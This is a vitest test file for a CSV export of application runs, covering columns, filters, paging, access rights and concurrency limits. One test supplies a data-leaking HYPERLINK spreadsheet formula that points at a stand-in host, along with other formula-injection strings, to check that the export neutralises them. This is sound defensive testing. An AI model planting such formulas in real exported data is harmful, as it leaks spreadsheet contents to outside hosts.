/** Lists of runs as CSV. */
import { KEY_CSV_MAX } from '@switchyard/contract/limits.ts';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { formatHolder } from '../../platform/http/handlers/handler.ts';
import { createRun, nodeApp, pushApp } from '../../testing/fixtures/apps.ts';
import {
  createApplication,
  expectError,
  expectStatus,
  uploadContent,
} from '../../testing/fixtures/resources.ts';
import { startTestServer, type TestServer } from '../../testing/servers/test-server.ts';
import { OpenCsvLists, respondWithCsv } from './runs-csv.ts';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.close());

/** Parses CSV by RFC 4180, independently of the code under test. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  let row: string[] = [];
  for (let match = cell.exec(text); match; match = cell.exec(text)) {
    row.push(match[1] === undefined ? (match[2] ?? '') : match[1].replaceAll('""', '"'));
    if (match[3] === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

async function readTable(application: string, query = ''): Promise<Record<string, string>[]> {
  const response = await server.request('GET', `/v1/applications/${application}/runs?format=csv${query}`);
  expectStatus(response, 200);
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
  const [header = [], ...rows] = parseCsv(response.text);
  return rows.map((row) => {
    expect(row).toHaveLength(header.length);
    return Object.fromEntries(header.map((name, index) => [name, row[index] ?? '']));
  });
}

async function createEnded(application: string, name: string, options: object, custom: object = {}) {
  const block = JSON.stringify({ statistics: { schema: 'v1', result: { value: 12.5, custom } } });
  return createRun(server, application, {
    input: {},
    body: {
      name,
      options,
      configuration: { run_type: { type: 'external' } },
      result: {
        status: 'succeeded',
        execution_duration: 1500,
        statistics_upload_id: await uploadContent(server, application, block),
      },
    },
  });
}

test('has a column for each fact, option and indicator, with the filters and the order of the list', async () => {
  const application = await createApplication(server);
  const first = await createEnded(application, 'b', { effort: 2 }, { gap: 0.25 });
  const second = await createEnded(application, 'a', { solver: 'highs' }, { proven: true });
  expect(await readTable(application, '&sort=name')).toMatchObject([
    {
      id: second,
      ...{ name: 'a', status_v2: 'succeeded', run_type: 'external', execution_duration: '1500' },
      ...{ 'option.effort': '', 'option.solver': 'highs', 'indicator.result.value': '12.5' },
      ...{ 'indicator.result.custom.gap': '', 'indicator.result.custom.proven': 'true' },
    },
    { id: first, 'option.effort': '2', 'option.solver': '', 'indicator.result.custom.gap': '0.25' },
  ]);
  const [only, ...others] = await readTable(application, '&option=effort:2');
  expect({ only, others }).toMatchObject({ only: { id: first }, others: [] });
  expect(only).not.toHaveProperty('option.solver');
});

test('has a header also without runs, and every run of more than one page', async () => {
  const application = await createApplication(server);
  const { text } = await server.request('GET', `/v1/applications/${application}/runs?format=csv`);
  expect(text).toMatch(/^id,name,description,status_v2,.*\r\n$/);
  const ids: string[] = [];
  for (let index = 0; index < 60; index += 1) ids.push(await createEnded(application, '', {}));
  const rows = await readTable(application, '&sort=created_at');
  expect(rows.map(({ id }) => id).sort()).toEqual(ids.sort());
});

test('a spreadsheet evaluates no text of a caller, and numbers stay numbers', async () => {
  const application = await createApplication(server);
  const formula = '=HYPERLINK("https://example.com/?"&A1,"total")';
  const options = {
    a: '+1-1',
    b: '@SUM(A1)',
    c: '-5',
    d: '+1.5e3',
    e: '-',
    f: '1\n=2',
    g: '\t=1',
    h: 'a "b", c',
  };
  await createEnded(application, formula, options);
  const [row] = await readTable(application);
  expect(row).toMatchObject({
    name: `'${formula}`,
    ...{ 'option.a': "'+1-1", 'option.b': "'@SUM(A1)", 'option.c': '-5', 'option.d': '+1.5e3' },
    ...{ 'option.e': "'-", 'option.f': '1\n=2', 'option.g': "'\t=1", 'option.h': 'a "b", c' },
  });
});

test('needs the right to read, leaves out hidden options, and refuses parameters of pages', async () => {
  const application = 'hiding';
  await pushApp(server, application, nodeApp('(input) => input'), {
    options: {
      items: [
        { name: 'seen', option_type: 'string' },
        { name: 'hidden', option_type: 'string', ui: { hidden_from: ['viewer'] } },
      ],
    },
  });
  await createRun(server, application, { input: {}, body: { options: { seen: '1', hidden: '2' } } });
  const path = `/v1/applications/${application}/runs?format=csv`;
  const { token } = await server.createKey('viewer');
  const { text } = await server.request('GET', path, { token });
  expect(text).toContain('option.seen');
  expect(text).not.toContain('option.hidden');
  expectError(
    await server.request('GET', path, { token: (await server.createKey('unassigned')).token }),
    403,
  );
  for (const query of ['limit=10', 'pagereturn=true', 'pagetoken=x'])
    expectError(await server.request('GET', `${path}&${query}`), 400, query.split('=')[0] ?? '', 'csv');
});

test('a caller who leaves before the first line ends the reading of the runs', async () => {
  let leave = (): void => {};
  let pages = 0;
  let ends = 0;
  const readEndlessly = async () => {
    pages += 1;
    if (pages === 3) leave();
    return { runs: [], next: { at: 0, id: '' } };
  };
  const response = respondWithCsv(
    readEndlessly,
    (callback) => {
      leave = callback;
      return () => {};
    },
    () => {
      ends += 1;
    },
  );
  await expect(response).rejects.toThrow('The connection was closed');
  expect(pages).toBe(3);
  expect(ends).toBe(1);
});

test('a key reads a few lists at a time, its member one more, and the end of one makes place', async () => {
  const lists = new OpenCsvLists();
  const [one, two] = [formatHolder('ada', 'key-1'), formatHolder('ada', 'key-2')];
  const opened = Array.from({ length: KEY_CSV_MAX }, () => lists.open(one));
  expect(() => lists.open(one)).toThrow(`a key can read ${KEY_CSV_MAX} at a time`);
  lists.open(two);
  expect(() => lists.open(two)).toThrow(`reads ${KEY_CSV_MAX + 1} lists`);
  for (const end of opened) {
    end();
    end();
  }
  // The other key still reads one.
  for (const _ of opened.slice(1)) lists.open(one);
  expect(() => lists.open(one)).toThrow('at a time');
});

test('lists that ended, were refused, or whose caller left count no longer', async () => {
  const application = 'counted';
  await createApplication(server, { id: application, name: 'Counted' });
  await createEnded(application, 'any', {});
  const url = `${server.url}/v1/applications/${application}/runs?format=csv`;
  const headers = { authorization: `Bearer ${server.token}` };
  for (let n = 0; n < 3 * KEY_CSV_MAX; n += 1) {
    expect((await readTable(application)).length).toBe(1);
    expectStatus(await server.request('HEAD', `/v1/applications/${application}/runs?format=csv`), 200);
    const left = await fetch(url, { headers });
    await left.body?.cancel();
    expectError(await server.request('GET', `/v1/applications/${application}/runs?format=csv&limit=1`), 400);
  }
});
